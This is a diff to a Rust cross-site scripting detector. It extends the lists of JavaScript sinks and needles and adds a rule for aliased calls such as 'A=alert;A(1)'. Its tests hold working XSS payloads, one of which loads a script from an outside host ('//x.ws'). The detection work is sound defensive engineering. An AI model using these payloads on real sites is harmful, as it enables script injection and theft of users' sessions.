@@ -95,6 +95,12 @@ const SINKS: &[&str] = &[
     "msgbox(",
     "-moz-binding",
     "constructor(",
+    // A sink called through Function.prototype, and an element made by script.
+    "eval.call(",
+    "eval.apply(",
+    "alert.call(",
+    "alert.apply(",
+    "createelement(",
 ];
 
 const SCHEMES: &[&str] = &[
@@ -233,6 +239,10 @@ const JS_NEEDLES: &[&str] = &[
     "=prompt,",
     "=confirm,",
     "=eval,",
+    "=alert;",
+    "=prompt;",
+    "=confirm;",
+    "=eval;",
 ];
 
 static JS_CI: LazyLock<AhoCorasick> = LazyLock::new(|| {
@@ -255,6 +265,19 @@ fn js_call(v: &[u8]) -> bool {
             // A global's member by a computed name, then a call.
             b'[' | b'a'..=b'z' | b'A'..=b'Z' if v[end - 1] == b'[' => {
                 !before.is_some_and(ident) && memchr::memmem::find(rest, b"](").is_some()
+            }
+            // `=alert;` and the name it was given called after it (`A=alert;A(1)`):
+            // a statement apart, so the name is checked, not any call.
+            b'=' if v[end - 1] == b';' => {
+                let name_at = v[..start]
+                    .iter()
+                    .rposition(|&c| !ident(c))
+                    .map_or(0, |i| i + 1);
+                let name = &v[name_at..start];
+                !name.is_empty()
+                    && memchr::memmem::find_iter(rest, name).any(|i| {
+                        rest.get(i + name.len()) == Some(&b'(') && !(i > 0 && ident(rest[i - 1]))
+                    })
             }
             // `=alert,` and a call after it.
             b'=' => memchr::memchr(b'(', rest).is_some(),
@@ -532,6 +555,11 @@ mod tests {
             // a script context (BRUTELOGIC's JavaScript payloads)
             "(alert)(1)",
             "a=alert,a(1)",
+            "A=alert;A(1)",
+            "1;a=eval;b=alert;a(b(/c/.source));",
+            "';a=eval;b=alert;a(b(15));//",
+            "eval.call(this,unescape.call(this,location))",
+            "with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//x.ws'",
             "[1].find(alert)",
             "top[\"al\"+\"ert\"](1)",
             "top[/al/.source+/ert/.source](1)",
@@ -570,6 +598,8 @@ mod tests {
             "set the level (alert) for prices",
             "levels: (alert)",
             "a=alert,b",
+            "level=alert;b(2)",
+            "type=alert; see (notes)",
             "answer = input(prompt)",
             "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><p>hi</p>",
             "<!DOCTYPE html><p>SYSTEM requirements</p>",
